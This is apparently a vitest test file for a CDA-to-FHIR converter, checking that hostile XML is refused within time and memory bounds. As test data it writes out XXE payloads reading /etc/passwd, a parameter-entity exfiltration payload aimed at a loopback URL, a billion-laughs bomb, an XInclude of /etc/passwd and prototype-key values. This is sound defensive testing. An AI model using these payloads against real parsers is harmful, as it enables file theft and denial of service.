/**
 * Hostile inputs: each is refused with its catalogue code, in bounded time and memory, and the
 * OperationOutcome built from the error carries that same code. The bounds are safety nets (a
 * DTD expanded, a tree built for 50 MB, a quadratic loop), not performance targets.
 */
import { describe, expect, it } from 'vitest';
import { convertCda } from '../../gateway/cda/convert.js';
import { DEFAULT_XML_LIMITS, parseXml } from '../../gateway/cda/xml.js';
import { PasserelleError, type ErrorCode } from '../../gateway/errors.js';
import { outcomeFromError } from '../../gateway/fhir/outcome.js';
import { loadCorpus, measure, syntheticCda } from '../support/hostile.js';

const MAX_MS = 5_000;
const MAX_RSS_GROWTH_MB = 256;
const MAX_HEAP_GROWTH_MB = 128;

const utf8 = (s: string): Buffer => Buffer.from(s, 'utf8');

/** Converts, expects a PasserelleError with that code, within the bounds; returns the error. */
function expectRefused(input: Uint8Array, code: ErrorCode, options: Parameters<typeof convertCda>[1] = {}): PasserelleError {
  const { error, cost } = measure(() => convertCda(input, options));
  expect(error, `expected ${code}, but the conversion succeeded`).toBeDefined();
  if (!(error instanceof PasserelleError)) throw new Error(`expected PasserelleError ${code}, got: ${String((error as Error)?.stack ?? error)}`);
  expect(error.code, error.message).toBe(code);
  const outcome = outcomeFromError(error);
  expect(outcome.resourceType).toBe('OperationOutcome');
  expect(outcome.issue[0]?.details?.coding?.[0]?.code).toBe(code);
  expect(cost.ms, `took ${cost.ms.toFixed(0)} ms`).toBeLessThan(MAX_MS);
  expect(cost.rssGrowthMB, `RSS grew by ${cost.rssGrowthMB.toFixed(1)} MB`).toBeLessThan(MAX_RSS_GROWTH_MB);
  expect(cost.heapGrowthMB, `heap grew by ${cost.heapGrowthMB.toFixed(1)} MB`).toBeLessThan(MAX_HEAP_GROWTH_MB);
  return error;
}

const CDA_OPEN = '<ClinicalDocument xmlns="urn:hl7-org:v3">';

describe('DTDs and entities', () => {
  it('refuses XXE: an external entity to /etc/passwd', () => {
    const xml = `<?xml version="1.0"?>
<!DOCTYPE ClinicalDocument [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
${CDA_OPEN}<title>&xxe;</title></ClinicalDocument>`;
    const err = expectRefused(utf8(xml), 'CDA_DTD_FORBIDDEN');
    expect(err.message).not.toMatch(/root:/);
    expect(JSON.stringify(outcomeFromError(err))).not.toMatch(/root:x?:?0/);
  });

  it('refuses an external DTD (SYSTEM identifier on the DOCTYPE)', () => {
    const xml = `<?xml version="1.0"?><!DOCTYPE ClinicalDocument SYSTEM "http://127.0.0.1:1/cda.dtd">${CDA_OPEN}</ClinicalDocument>`;
    expectRefused(utf8(xml), 'CDA_DTD_FORBIDDEN');
  });

  it('refuses a parameter entity (external DTD fetched through %)', () => {
    const xml = `<?xml version="1.0"?>
<!DOCTYPE ClinicalDocument [
  <!ENTITY % remote SYSTEM "http://127.0.0.1:1/evil.dtd">
  %remote;
  <!ENTITY % file SYSTEM "file:///etc/passwd">
  <!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM 'http://127.0.0.1:1/?x=%file;'>">
  %eval;
  %exfil;
]>
${CDA_OPEN}</ClinicalDocument>`;
    expectRefused(utf8(xml), 'CDA_DTD_FORBIDDEN');
  });

  it('refuses billion laughs (nested internal entities)', () => {
    const decls = ['<!ENTITY lol0 "lol">'];
    for (let i = 1; i <= 10; i++) decls.push(`<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`);
    const xml = `<?xml version="1.0"?>
<!DOCTYPE ClinicalDocument [ ${decls.join('\n')} ]>
${CDA_OPEN}<title>&lol10;</title></ClinicalDocument>`;
    expectRefused(utf8(xml), 'CDA_DTD_FORBIDDEN');
  });

  it('refuses an undeclared entity reference (no DOCTYPE at all)', () => {
    expectRefused(utf8(`${CDA_OPEN}<title>&xxe;</title></ClinicalDocument>`), 'CDA_NOT_WELL_FORMED');
  });
});

describe('size limits', () => {
  it('refuses 10 000 nested elements (CDA_TOO_DEEP)', () => {
    const depth = 10_000;
    const xml = `${CDA_OPEN}${'<component>'.repeat(depth)}${'</component>'.repeat(depth)}</ClinicalDocument>`;
    expectRefused(utf8(xml), 'CDA_TOO_DEEP');
  });

  it('refuses 10 000 nested elements even when not closed', () => {
    expectRefused(utf8(`${CDA_OPEN}${'<a>'.repeat(10_000)}`), 'CDA_TOO_DEEP');
  });

  it('refuses a document of more than 50 MB (CDA_TOO_LARGE)', () => {
    const header = utf8(`<?xml version="1.0" encoding="UTF-8"?>\n${CDA_OPEN}<title>`);
    const size = 50 * 1024 * 1024 + 1;
    // One buffer, filled with spaces (valid XML text) after the header: no second copy.
    const big = Buffer.alloc(size, 0x20);
    header.copy(big, 0);
    expectRefused(big, 'CDA_TOO_LARGE');
    expect(() => parseXml(big)).toThrow(PasserelleError);
  });

  it('refuses a document above a smaller configured maxBytes', () => {
    expectRefused(utf8(syntheticCda()), 'CDA_TOO_LARGE', { limits: { maxBytes: 1024 } });
  });

  it('refuses too many elements with a small maxElements (CDA_TOO_MANY_ELEMENTS)', () => {
    const xml = `${CDA_OPEN}${'<templateId root="1.2.3"/>'.repeat(20_000)}</ClinicalDocument>`;
    expectRefused(utf8(xml), 'CDA_TOO_MANY_ELEMENTS', { limits: { maxElements: 1_000 } });
  });

  it('refuses more elements than the default limit', () => {
    const n = DEFAULT_XML_LIMITS.maxElements + 1;
    expectRefused(utf8(`${CDA_OPEN}${'<a/>'.repeat(n)}</ClinicalDocument>`), 'CDA_TOO_MANY_ELEMENTS');
  });

  it('refuses a real document above a small maxElements', () => {
    expectRefused(utf8(syntheticCda()), 'CDA_TOO_MANY_ELEMENTS', { limits: { maxElements: 10 } });
  });
});

describe('not well-formed', () => {
  it('refuses an unclosed tag', () => {
    expectRefused(utf8(`<?xml version="1.0"?>${CDA_OPEN}<title>Titre</ClinicalDocument>`), 'CDA_NOT_WELL_FORMED');
  });

  it('refuses a truncated document', () => {
    const doc = syntheticCda();
    expectRefused(utf8(doc.slice(0, Math.floor(doc.length / 2))), 'CDA_NOT_WELL_FORMED');
  });

  it('refuses bytes that are not UTF-8 under a UTF-8 declaration', () => {
    const head = utf8(`<?xml version="1.0" encoding="UTF-8"?>${CDA_OPEN}<title>`);
    const bad = Buffer.from([0x43, 0x61, 0x66, 0xe9, 0x20, 0xff, 0xfe, 0xc0, 0x80]); // "Café" in Latin-1, 0xFF, overlong NUL
    const tail = utf8('</title></ClinicalDocument>');
    expectRefused(Buffer.concat([head, bad, tail]), 'CDA_NOT_WELL_FORMED');
  });

  it('refuses bytes that are not UTF-8 without any declaration', () => {
    expectRefused(Buffer.concat([utf8(`${CDA_OPEN}<title>`), Buffer.from([0xe9, 0xe8]), utf8('</title></ClinicalDocument>')]), 'CDA_NOT_WELL_FORMED');
  });

  it('refuses an unknown encoding name', () => {
    expectRefused(utf8(`<?xml version="1.0" encoding="x-klingon-42"?>${CDA_OPEN}</ClinicalDocument>`), 'CDA_NOT_WELL_FORMED');
  });

  it('refuses XML 1.1, whose character references admit control characters', () => {
    expectRefused(utf8(`<?xml version="1.1"?>${CDA_OPEN}<title>&#1;</title></ClinicalDocument>`), 'CDA_NOT_WELL_FORMED');
  });

  it('refuses an empty input', () => {
    expectRefused(new Uint8Array(0), 'CDA_NOT_WELL_FORMED');
  });

  it('refuses two document elements', () => {
    expectRefused(utf8(`${CDA_OPEN}</ClinicalDocument>${CDA_OPEN}</ClinicalDocument>`), 'CDA_NOT_WELL_FORMED');
  });

  it('refuses a NUL character reference', () => {
    expectRefused(utf8(`${CDA_OPEN}<title>&#0;</title></ClinicalDocument>`), 'CDA_NOT_WELL_FORMED');
  });

  it('refuses a JSON document given as CDA', () => {
    const json = JSON.stringify({ resourceType: 'Bundle', type: 'document', entry: [] });
    expectRefused(utf8(json), 'CDA_NOT_WELL_FORMED');
  });

  it('refuses a PDF given as CDA', () => {
    const pdf = Buffer.concat([
      utf8('%PDF-1.5\n%'), Buffer.from([0xb5, 0xb5, 0xb5, 0xb5]), utf8('\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n'),
      utf8('trailer\n<</Root 1 0 R>>\n%%EOF\n'),
    ]);
    expectRefused(pdf, 'CDA_NOT_WELL_FORMED');
  });
});

describe('XML that is not a usable CDA', () => {
  it('refuses an HTML document', () => {
    expectRefused(utf8('<html><head><title>x</title></head><body><p>Bonjour</p></body></html>'), 'CDA_NOT_A_CLINICAL_DOCUMENT');
  });

  it('refuses an XHTML document', () => {
    expectRefused(utf8('<html xmlns="http://www.w3.org/1999/xhtml"><body><p>Bonjour</p></body></html>'), 'CDA_NOT_A_CLINICAL_DOCUMENT');
  });

  it('refuses a ClinicalDocument in another namespace', () => {
    const doc = syntheticCda().replace('xmlns="urn:hl7-org:v3"', 'xmlns="urn:example:not-hl7"');
    expectRefused(utf8(doc), 'CDA_NOT_A_CLINICAL_DOCUMENT');
  });

  it('refuses a CDA without recordTarget (CDA_PATIENT_MISSING)', () => {
    expectRefused(utf8(syntheticCda({ noRecordTarget: true })), 'CDA_PATIENT_MISSING');
  });

  it('refuses a CDA without body (CDA_BODY_MISSING)', () => {
    expectRefused(utf8(syntheticCda({ noBody: true })), 'CDA_BODY_MISSING');
  });

  it('refuses a level-1 CDA whose nonXMLBody claims application/pdf but is not a PDF', () => {
    const base64 = Buffer.from('<html><body>Ceci n’est pas un PDF.</body></html>', 'utf8').toString('base64');
    expectRefused(utf8(syntheticCda({ nonXmlBody: { mediaType: 'application/pdf', base64 } })), 'CDA_EMBEDDED_DOCUMENT_INVALID');
  });

  it('refuses a level-1 CDA whose nonXMLBody is not base64', () => {
    expectRefused(utf8(syntheticCda({ nonXmlBody: { mediaType: 'application/pdf', base64: '%%% not base64 %%%' } })), 'CDA_EMBEDDED_DOCUMENT_INVALID');
  });
});

describe('algorithmic complexity: small documents stay cheap', () => {
  /** Converts (success or a refusal that blames the input) within the time bound. */
  function expectBounded(input: Uint8Array): void {
    const { error, cost } = measure(() => convertCda(input));
    if (error !== undefined) {
      if (!(error instanceof PasserelleError)) throw error;
      expect(['INTERNAL_ERROR', 'FHIR_OUTPUT_INVALID'], error.message).not.toContain(error.code);
    }
    expect(cost.ms, `took ${cost.ms.toFixed(0)} ms for ${(input.byteLength / 1e6).toFixed(1)} MB`).toBeLessThan(MAX_MS);
    expect(cost.rssGrowthMB, `RSS grew by ${cost.rssGrowthMB.toFixed(1)} MB`).toBeLessThan(MAX_RSS_GROWTH_MB);
  }

  it('20 000 empty sibling sections (1.2 MB), each reported', () => {
    const sections = '<component><section><title>x</title></section></component>'.repeat(20_000);
    const doc = syntheticCda().replace('<component>\n        <section>', `${sections}<component>\n        <section>`);
    expectBounded(utf8(doc));
  });

  it('20 000 patient identifiers with a root that is not an OID (0.7 MB), each reported', () => {
    const ids = '<id root="not-an-oid" extension="x"/>'.repeat(20_000);
    expectBounded(utf8(syntheticCda().replace('<addr use="H">', `${ids}<addr use="H">`)));
  });

  it('200 000 attributes on one element', () => {
    const attrs = Array.from({ length: 200_000 }, (_, i) => ` a${i}="x"`).join('');
    expectBounded(utf8(syntheticCda().replace('<realmCode code="FR"/>', `<realmCode code="FR"${attrs}/>`)));
  });

  it('100 000 namespace declarations on the root and one more on each of 100 000 elements', () => {
    const decls = Array.from({ length: 100_000 }, (_, i) => ` xmlns:p${i}="urn:x:${i}"`).join('');
    const children = Array.from({ length: 100_000 }, (_, i) => `<templateId xmlns:q${i}="urn:y:${i}" root="1.2.3"/>`).join('');
    const doc = syntheticCda()
      .replace('<ClinicalDocument xmlns="urn:hl7-org:v3"', `<ClinicalDocument xmlns="urn:hl7-org:v3"${decls}`)
      .replace('<realmCode code="FR"/>', `${children}<realmCode code="FR"/>`);
    expect(doc.length).toBeGreaterThan(5_000_000);
    expectBounded(utf8(doc));
  });

  it('a 1 MB attribute value and a 1 MB date', () => {
    const doc = syntheticCda()
      .replace('value="168"', `value="${'9'.repeat(1_000_000)}"`)
      .replace('<birthTime value="19790315"/>', `<birthTime value="${'1'.repeat(1_000_000)}"/>`);
    expectBounded(utf8(doc));
  });

  it('400 000 empty narrative elements (under the default element limit)', () => {
    expectBounded(utf8(syntheticCda().replace('<paragraph>Texte', `${'<br/>'.repeat(400_000)}<paragraph>Texte`)));
  });
});

describe('coded values that are not codes', () => {
  // Lookup tables indexed by a value read from the document must not answer for inherited keys
  // (`TABLE['constructor']` is a function): the conversion succeeds or blames the input.
  const PROTO_KEYS = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf'];
  const SITES: [string, string, string][] = [
    ['administrativeGenderCode/@code', '<administrativeGenderCode code="F"', '<administrativeGenderCode code="%"'],
    ['ClinicalDocument/code/@codeSystem', '<code code="11488-4" displayName="Note de consultation" codeSystem="2.16.840.1.113883.6.1"', '<code code="11488-4" displayName="Note de consultation" codeSystem="%"'],
    ['section/code/@codeSystem', 'codeSystem="2.16.840.1.113883.6.1" codeSystemName="LOINC"/>\n          <title>Traitements', 'codeSystem="%" codeSystemName="LOINC"/>\n          <title>Traitements'],
    ['section/code/@code', '<code code="10160-0"', '<code code="%"'],
    ['confidentialityCode/@code', '<confidentialityCode code="N"', '<confidentialityCode code="%"'],
    ['confidentialityCode/@codeSystem', 'codeSystem="2.16.840.1.113883.5.25"', 'codeSystem="%"'],
    ['patientRole/id/@root', '<id root="1.2.3.4.5.6.7.8.9.10" extension="IPP-0001"/>', '<id root="%" extension="IPP-0001"/>'],
    ['patientRole/telecom/@use', '<telecom use="H" value="tel:0102030405"/>', '<telecom use="%" value="tel:0102030405"/>'],
    ['patientRole/addr/@use', '<addr use="H">', '<addr use="%">'],
    ['name/family/@qualifier', '<family qualifier="BR">', '<family qualifier="%">'],
    ['observation/statusCode/@code', '<statusCode code="completed"/>', '<statusCode code="%"/>'],
    ['observation/@moodCode', 'moodCode="EVN"', 'moodCode="%"'],
    ['observation/value/@xsi:type', 'xsi:type="PQ"', 'xsi:type="%"'],
    ['relatedDocument/@typeCode', '<documentationOf>', '<relatedDocument typeCode="%"><parentDocument><id root="1.2.3"/></parentDocument></relatedDocument><documentationOf>'],
    ['informant/relatedEntity/@classCode', '<relatedEntity classCode="ECON">', '<relatedEntity classCode="%">'],
    ['informant/relatedEntity/code/@code', '<code code="MTH"', '<code code="%"'],
    ['id/@nullFlavor', '<id root="1.2.250.1.213.1.4.8" extension="279035121518989"/>', '<id root="1.2.250.1.213.1.4.8" extension="279035121518989" nullFlavor="%"/>'],
  ];
  const base = syntheticCda();
  /** Each value at the site: the conversion succeeds or blames the input; returns what went wrong. */
  const tryValues = (from: string, to: string, values: readonly string[]): string[] => {
    const failures: string[] = [];
    for (const value of values) {
      try {
        convertCda(utf8(base.replace(from, to.replace('%', value))));
      } catch (err) {
        if (!(err instanceof PasserelleError)) failures.push(`${JSON.stringify(value)}: ${String(err)}`);
        else if (err.code === 'INTERNAL_ERROR' || err.code === 'FHIR_OUTPUT_INVALID') failures.push(`${JSON.stringify(value)}: ${err.code} ${err.message}`);
      }
    }
    return failures;
  };
  for (const [site, from, to] of SITES) {
    it(`${site} = ${PROTO_KEYS.join(' | ')}`, () => {
      expect(base.includes(from), `fixture lost its ${site}`).toBe(true);
      expect(tryValues(from, to, PROTO_KEYS)).toEqual([]);
    });
  }

  // An attribute value is any string: a codeSystem or root with spaces must not become `urn:oid:a b`.
  const NOT_URI_SAFE = ['a b', 'urn:oid:1.2 3', 'http://x y', 'a\tb', '1.2.3 4', '<>', '{x}'];
  const URI_SITES: [string, string, string][] = [
    ['ClinicalDocument/code/@codeSystem', SITES[1]![1], SITES[1]![2]],
    ['section/code/@codeSystem', SITES[2]![1], SITES[2]![2]],
    ['confidentialityCode/@codeSystem', SITES[5]![1], SITES[5]![2]],
    ['patientRole/id/@root', SITES[6]![1], SITES[6]![2]],
    ['author/assignedAuthor/id/@root', '<id root="1.2.250.1.71.4.2.1" extension="810001234567"/>\n      <code', '<id root="%" extension="810001234567"/>\n      <code'],
    ['ClinicalDocument/id/@root', '<id root="1.2.250.1.999.1.1" extension="doc-synthetic-1"/>', '<id root="%" extension="doc-synthetic-1"/>'],
    ['patientRole/telecom/@value', 'value="tel:0102030405"', 'value="%"'],
  ];
  for (const [site, from, to] of URI_SITES) {
    it(`${site} = values that are not URI-safe`, () => {
      expect(base.includes(from), `fixture lost its ${site}`).toBe(true);
      expect(tryValues(from, to, NOT_URI_SAFE)).toEqual([]);
    });
  }
});

describe('accepted inputs', () => {
  it('converts the synthetic CDA (sanity check of the fixtures above)', () => {
    const { bundle } = convertCda(utf8(syntheticCda()));
    expect(bundle.type).toBe('document');
    expect(bundle.entry?.[0]?.resource?.resourceType).toBe('Composition');
  });

  it('converts a level-1 CDA with a real PDF', () => {
    const base64 = Buffer.from('%PDF-1.4\n%\u00e2\u00e3\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n', 'latin1').toString('base64');
    const { bundle } = convertCda(utf8(syntheticCda({ nonXmlBody: { mediaType: 'application/pdf', base64 } })));
    expect(bundle.entry?.some((e) => e.resource?.resourceType === 'DocumentReference')).toBe(true);
  });

  it('converts a ClinicalDocument wrapped in an XSLT stylesheet, reporting CDA_WRAPPED', () => {
    const xml = `<?xml version="1.0" encoding="UTF-8"?>
<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
  <xsl:output method="xml" indent="yes"/>
  <xsl:template match="/">
${syntheticCda({ noDeclaration: true })}
  </xsl:template>
</xsl:stylesheet>
`;
    const { bundle, report } = convertCda(utf8(xml));
    expect(bundle.type).toBe('document');
    expect(bundle.entry?.[0]?.resource?.resourceType).toBe('Composition');
    const codes = report.issue.flatMap((i) => i.details?.coding?.map((c) => c.code) ?? []);
    expect(codes).toContain('CDA_WRAPPED');
  });

  it('converts a wrapped corpus document (LDL-SES) the same way', () => {
    const corpus = loadCorpus();
    const ldl = corpus.get('LDL-SES_2022.01.xml');
    if (!ldl) throw new Error('LDL-SES_2022.01.xml is missing from the corpus.');
    const inner = ldl.toString('utf8').replace(/^[\s\S]*?(?=<ClinicalDocument)/, '');
    const xml = `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">${inner}</xsl:template></xsl:stylesheet>`;
    const { bundle, report } = convertCda(utf8(xml));
    expect(bundle.entry?.[0]?.resource?.resourceType).toBe('Composition');
    expect(report.issue.some((i) => i.details?.coding?.some((c) => c.code === 'CDA_WRAPPED'))).toBe(true);
  });

  it('ignores processing instructions and XInclude: nothing is fetched or read from disk', () => {
    const doc = syntheticCda()
      .replace('<?xml version="1.0" encoding="UTF-8"?>\n', '<?xml version="1.0" encoding="UTF-8"?>\n<?xml-stylesheet type="text/xsl" href="http://127.0.0.1:1/x.xsl"?>\n')
      .replace('<title>Traitements</title>', '<title>Traitements<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/></title>');
    const { error, cost } = measure(() => {
      const { bundle } = convertCda(utf8(doc));
      expect(JSON.stringify(bundle)).not.toMatch(/root:x?:?0:/);
    });
    expect(error).toBeUndefined();
    expect(cost.ms).toBeLessThan(MAX_MS);
  });
});
